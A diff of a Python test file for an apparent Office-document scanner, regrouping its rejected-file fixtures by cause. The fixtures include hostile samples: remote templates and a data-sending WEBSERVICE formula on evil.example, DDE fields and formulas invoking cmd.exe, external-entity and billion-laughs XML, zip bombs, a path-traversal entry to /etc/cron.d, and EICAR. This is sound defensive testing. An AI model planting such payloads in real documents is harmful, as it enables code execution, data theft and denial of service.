@@ -119,101 +119,110 @@ MACRO_TYPE = '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-w
 BIG = b"<a>" + b" " * (70 * 1024 * 1024) + b"</a>"
 LARGE = b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"
 INNER = made("xlsx")
-MACROS = {
-    "macros by their name": (made(word__vbaProject_bin=OLE), Cause.MACRO),
-    "macros by the list of types": (made(listed=(MACRO_TYPE,)), Cause.MACRO),
-    "macros by what leads to them": (related("docx", ("vbaProject", "x.xml", False)), Cause.MACRO),
-    "macros of another age": (related("xlsx", ("xlMacrosheet", "x.xml", False)), Cause.MACRO),
-    "macro of a button": (made("xlsx", xl__drawings__d_xml=b'<sp macro="[0]!Go"/>'), Cause.MACRO),
-    "macro of a slide": (slide("ppaction://macro?name=Go"), Cause.MACRO),
-    "ribbon of one's own": (made(customUI__customUI_xml=b'<b onAction="Go"/>'), Cause.MACRO),
-    "a document of another kind": (
-        zipped(parts() | {"[Content_Types].xml": types(f"{TYPE}wordprocessingml.template", "word/document.xml")}),
-        Cause.OFFICE,
-    ),
+BY_CAUSE: dict[Cause, dict[str, bytes]] = {
+    Cause.MACRO: {
+        "macros by their name": made(word__vbaProject_bin=OLE),
+        "macros by the list of types": made(listed=(MACRO_TYPE,)),
+        "macros by what leads to them": related("docx", ("vbaProject", "x.xml", False)),
+        "macros of another age": related("xlsx", ("xlMacrosheet", "x.xml", False)),
+        "macro of a button": made("xlsx", xl__drawings__d_xml=b'<sp macro="[0]!Go"/>'),
+        "macro of a slide": slide("ppaction://macro?name=Go"),
+        "ribbon of one's own": made(customUI__customUI_xml=b'<b onAction="Go"/>'),
+        "workbook with macros": made(word__embeddings__a_xlsx=made("xlsx", xl__vbaProject_bin=OLE)),
+    },
+    Cause.OFFICE: {
+        "a document of another kind": zipped(
+            parts() | {"[Content_Types].xml": types(f"{TYPE}wordprocessingml.template", "word/document.xml")}
+        ),
+    },
+    Cause.LINKED: {
+        "outside template": related("docx", ("attachedTemplate", "https://evil.example/x.dotm", True)),
+        "template on a share": related("docx", ("attachedTemplate", "\\\\evil.example\\x.dotm", True)),
+        "template that says it is inside": related("docx", ("attachedTemplate", "x.dotm", False)),
+        "picture that tells who reads": related("docx", ("image", "https://evil.example/1.png", True)),
+        "outside object": related("docx", ("oleObject", "https://evil.example/x.html!x", True)),
+        "frames": related("docx", ("frame", "https://evil.example/", True)),
+        "data of a mailing": related("docx", ("mailMergeSource", "file:///c:/x.mdb", True)),
+        "other workbook": related("xlsx", ("externalLink", "externalLinks/e.xml", False)),
+        "connection": related("xlsx", ("connections", "connections.xml", False)),
+        "pane of a web page": related("docx", ("webextension", "w.xml", False)),
+        "link to a file": related("docx", ("hyperlink", "file:///c:/windows/calc.exe", True)),
+        "link to a script": related("docx", ("hyperlink", "java&#10;script:x()", True)),
+        "address that says it is inside": related("docx", ("image", "https://evil.example/1.png", False)),
+        "program of a slide": slide("ppaction://program"),
+        "DDE": field("DDEAUTO c:\\\\cmd.exe"),
+        "DDE in pieces": field("D", "DE", "AUTO c:\\\\cmd.exe"),
+        "DDE in an attribute": made(main=body('<w:fldSimple w:instr=" DDE cmd x"/>')),
+        "DDE that was deleted": made(
+            main=body('<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE cmd</w:delInstrText>')
+        ),
+        "DDE outside of a field": made(main=body("<w:instrText>DDE cmd</w:instrText>")),
+        "DDE that a field spells": made(
+            main=body(
+                '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>'
+                "<w:instrText>QUOTE 68 68 69</w:instrText>"
+                '<w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>'
+            )
+        ),
+        "a field that fetches": field('INCLUDEPICTURE "https://evil.example/1.png"'),
+        "a field that opens a file": field('HYPERLINK "file:///c:/x.exe"'),
+        "formula that fetches": formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
+        "formula of DDE": formula("cmd|&apos;/c calc&apos;!A0"),
+        "formula that opens a file": formula('HYPERLINK("\\\\evil.example\\x","Here")'),
+        "picture of an old drawing": made(main=body('<v:imagedata src="https://evil.example/1.png"/>')),
+        "query in a part of one's own": made("xlsx", customXml__item1_xml=b"<DataMashup>x</DataMashup>"),
+    },
+    Cause.EMBEDDED: {
+        "object": made(word__embeddings__oleObject1_bin=OLE),
+        "object that says it is a picture": made(word__media__image1_png=OLE),
+        "object by what leads to it": related("docx", ("oleObject", "x.xml", False)),
+        "object in the text": made(main=body("<w:object><OLEObject/></w:object>")),
+        "control": related("docx", ("control", "activeX/a.xml", False)),
+        "program": made(word__media__a_exe=b"MZ"),
+        "program as a font": made(word__fonts__font1_odttf=b"MZ" + b"\0" * 60),
+        "program as settings of a printer": made(xl__printerSettings__p1_bin=b"MZ" + b"\0" * 60),
+        "PDF": made(word__embeddings__a_pdf=PLAIN_PDF),
+        "web page in the text": related("docx", ("aFChunk", "a.xml", False)),
+        "text within a text": made(word__embeddings__a_xlsx=made()),
+        "workbook within a workbook": made(word__embeddings__a_xlsx=made("xlsx", xl__embeddings__b_xlsx=INNER)),
+    },
+    Cause.MULTIMEDIA: {
+        "film": made("pptx", ppt__media__media1_mp4=b"\0\0\0\x20ftypisom"),
+        "outside film": related("pptx", ("video", "https://evil.example/a.mp4", True)),
+    },
+    Cause.DECLARES: {
+        "outside entity": made(main=DTD + b"<d>&e;</d>"),
+        "outside entity in UTF-16": made(main=DTD.decode().encode("utf-16") + "<d/>".encode("utf-16-le")),
+        "a billion laughs": made(main=LAUGHS + b"<d>&e8;</d>"),
+        "entity in the list of types": zipped(parts() | {"[Content_Types].xml": DTD + b"<T/>"}),
+        "entity in a relation": zipped(parts() | {"word/_rels/a.xml.rels": DTD + b"<R/>"}),
+    },
+    Cause.TOO_COMPLEX: {
+        "part that inflates to 70 MB": made(word__a_xml=BIG),
+        "parts that inflate to 300 MB": made(**{f"word__a{number}_xml": LARGE for number in range(5)}),
+        "5,001 parts": zipped(parts() | {f"word/{number}.xml": b"<a/>" for number in range(5_001)}),
+    },
+    Cause.BROKEN_OFFICE: {
+        "overlapping parts": overlapping(),
+        "path that climbs": zipped(parts() | {"../../etc/cron.d/x.xml": b"<a/>"}),
+        "one name in two spellings": zipped(parts() | {"word/Document.xml": body()}),
+        "packing that few know": zipped(parts(), zipfile.ZIP_LZMA),
+        "XML that says it is a picture": made(
+            listed=('<Override PartName="/word/a.png" ContentType="application/x.main+xml"/>',)
+        ),
+        "cut": made()[:-30],
+        "no XML": made(main=b"<w:document"),
+        "nothing that leads to its text": zipped(parts() | {"_rels/.rels": relations()}),
+    },
+    Cause.TWO_FILES_IN_ONE: {
+        "bytes between the parts": hidden(),
+        "page behind the document": made() + b"<html><script>x</script>",
+    },
+    Cause.MALWARE: {
+        "test virus": made(word__media__a_png=image("PNG") + EICAR),
+    },
 }
-LINKED = {
-    "outside template": (related("docx", ("attachedTemplate", "https://evil.example/x.dotm", True)), Cause.LINKED),
-    "template on a share": (related("docx", ("attachedTemplate", "\\\\evil.example\\x.dotm", True)), Cause.LINKED),
-    "template that says it is inside": (related("docx", ("attachedTemplate", "x.dotm", False)), Cause.LINKED),
-    "picture that tells who reads": (related("docx", ("image", "https://evil.example/1.png", True)), Cause.LINKED),
-    "outside object": (related("docx", ("oleObject", "https://evil.example/x.html!x", True)), Cause.LINKED),
-    "frames": (related("docx", ("frame", "https://evil.example/", True)), Cause.LINKED),
-    "data of a mailing": (related("docx", ("mailMergeSource", "file:///c:/x.mdb", True)), Cause.LINKED),
-    "other workbook": (related("xlsx", ("externalLink", "externalLinks/e.xml", False)), Cause.LINKED),
-    "connection": (related("xlsx", ("connections", "connections.xml", False)), Cause.LINKED),
-    "pane of a web page": (related("docx", ("webextension", "w.xml", False)), Cause.LINKED),
-    "link to a file": (related("docx", ("hyperlink", "file:///c:/windows/calc.exe", True)), Cause.LINKED),
-    "link to a script": (related("docx", ("hyperlink", "java&#10;script:x()", True)), Cause.LINKED),
-    "address that says it is inside": (related("docx", ("image", "https://evil.example/1.png", False)), Cause.LINKED),
-    "program of a slide": (slide("ppaction://program"), Cause.LINKED),
-    "DDE": (field("DDEAUTO c:\\\\cmd.exe"), Cause.LINKED),
-    "DDE in pieces": (field("D", "DE", "AUTO c:\\\\cmd.exe"), Cause.LINKED),
-    "DDE in an attribute": (made(main=body('<w:fldSimple w:instr=" DDE cmd x"/>')), Cause.LINKED),
-    "DDE that was deleted": (
-        made(main=body('<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE cmd</w:delInstrText>')), Cause.LINKED,
-    ),
-    "DDE outside of a field": (made(main=body("<w:instrText>DDE cmd</w:instrText>")), Cause.LINKED),
-    "DDE that a field spells": (
-        made(main=body('<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>'
-                       "<w:instrText>QUOTE 68 68 69</w:instrText>"
-                       '<w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>')), Cause.LINKED,
-    ),
-    "a field that fetches": (field('INCLUDEPICTURE "https://evil.example/1.png"'), Cause.LINKED),
-    "a field that opens a file": (field('HYPERLINK "file:///c:/x.exe"'), Cause.LINKED),
-    "formula that fetches": (formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), Cause.LINKED),
-    "formula of DDE": (formula("cmd|&apos;/c calc&apos;!A0"), Cause.LINKED),
-    "formula that opens a file": (formula('HYPERLINK("\\\\evil.example\\x","Here")'), Cause.LINKED),
-    "picture of an old drawing": (made(main=body('<v:imagedata src="https://evil.example/1.png"/>')), Cause.LINKED),
-    "query in a part of one's own": (made("xlsx", customXml__item1_xml=b"<DataMashup>x</DataMashup>"), Cause.LINKED),
-}  # fmt: skip
-EMBEDDED = {
-    "object": (made(word__embeddings__oleObject1_bin=OLE), Cause.EMBEDDED),
-    "object that says it is a picture": (made(word__media__image1_png=OLE), Cause.EMBEDDED),
-    "object by what leads to it": (related("docx", ("oleObject", "x.xml", False)), Cause.EMBEDDED),
-    "object in the text": (made(main=body("<w:object><OLEObject/></w:object>")), Cause.EMBEDDED),
-    "control": (related("docx", ("control", "activeX/a.xml", False)), Cause.EMBEDDED),
-    "program": (made(word__media__a_exe=b"MZ"), Cause.EMBEDDED),
-    "program as a font": (made(word__fonts__font1_odttf=b"MZ" + b"\0" * 60), Cause.EMBEDDED),
-    "program as settings of a printer": (made(xl__printerSettings__p1_bin=b"MZ" + b"\0" * 60), Cause.EMBEDDED),
-    "PDF": (made(word__embeddings__a_pdf=PLAIN_PDF), Cause.EMBEDDED),
-    "web page in the text": (related("docx", ("aFChunk", "a.xml", False)), Cause.EMBEDDED),
-    "text within a text": (made(word__embeddings__a_xlsx=made()), Cause.EMBEDDED),
-    "workbook with macros": (made(word__embeddings__a_xlsx=made("xlsx", xl__vbaProject_bin=OLE)), Cause.MACRO),
-    "workbook within a workbook": (
-        made(word__embeddings__a_xlsx=made("xlsx", xl__embeddings__b_xlsx=INNER)), Cause.EMBEDDED,
-    ),
-    "film": (made("pptx", ppt__media__media1_mp4=b"\0\0\0\x20ftypisom"), Cause.MULTIMEDIA),
-    "outside film": (related("pptx", ("video", "https://evil.example/a.mp4", True)), Cause.MULTIMEDIA),
-}  # fmt: skip
-ENTITIES = {
-    "outside entity": (made(main=DTD + b"<d>&e;</d>"), Cause.DECLARES),
-    "outside entity in UTF-16": (made(main=DTD.decode().encode("utf-16") + "<d/>".encode("utf-16-le")), Cause.DECLARES),
-    "a billion laughs": (made(main=LAUGHS + b"<d>&e8;</d>"), Cause.DECLARES),
-    "entity in the list of types": (zipped(parts() | {"[Content_Types].xml": DTD + b"<T/>"}), Cause.DECLARES),
-    "entity in a relation": (zipped(parts() | {"word/_rels/a.xml.rels": DTD + b"<R/>"}), Cause.DECLARES),
-}
-ARCHIVES = {
-    "part that inflates to 70 MB": (made(word__a_xml=BIG), Cause.TOO_COMPLEX),
-    "parts that inflate to 300 MB": (
-        made(**{f"word__a{number}_xml": LARGE for number in range(5)}), Cause.TOO_COMPLEX,
-    ),
-    "5,001 parts": (zipped(parts() | {f"word/{number}.xml": b"<a/>" for number in range(5_001)}), Cause.TOO_COMPLEX),
-    "overlapping parts": (overlapping(), Cause.BROKEN_OFFICE),
-    "bytes between the parts": (hidden(), Cause.TWO_FILES_IN_ONE),
-    "page behind the document": (made() + b"<html><script>x</script>", Cause.TWO_FILES_IN_ONE),
-    "path that climbs": (zipped(parts() | {"../../etc/cron.d/x.xml": b"<a/>"}), Cause.BROKEN_OFFICE),
-    "one name in two spellings": (zipped(parts() | {"word/Document.xml": body()}), Cause.BROKEN_OFFICE),
-    "packing that few know": (zipped(parts(), zipfile.ZIP_LZMA), Cause.BROKEN_OFFICE),
-    "XML that says it is a picture": (
-        made(listed=('<Override PartName="/word/a.png" ContentType="application/x.main+xml"/>',)), Cause.BROKEN_OFFICE,
-    ),
-    "cut": (made()[:-30], Cause.BROKEN_OFFICE),
-    "no XML": (made(main=b"<w:document"), Cause.BROKEN_OFFICE),
-    "nothing that leads to its text": (zipped(parts() | {"_rels/.rels": relations()}), Cause.BROKEN_OFFICE),
-    "test virus": (made(word__media__a_png=image("PNG") + EICAR), Cause.MALWARE),
-}  # fmt: skip
-REFUSED = MACROS | LINKED | EMBEDDED | ENTITIES | ARCHIVES
+REFUSED = {name: (content, cause) for cause, files in BY_CAUSE.items() for name, content in files.items()}
 TAKEN = {
     "plain text": made(),
     "plain workbook": INNER,
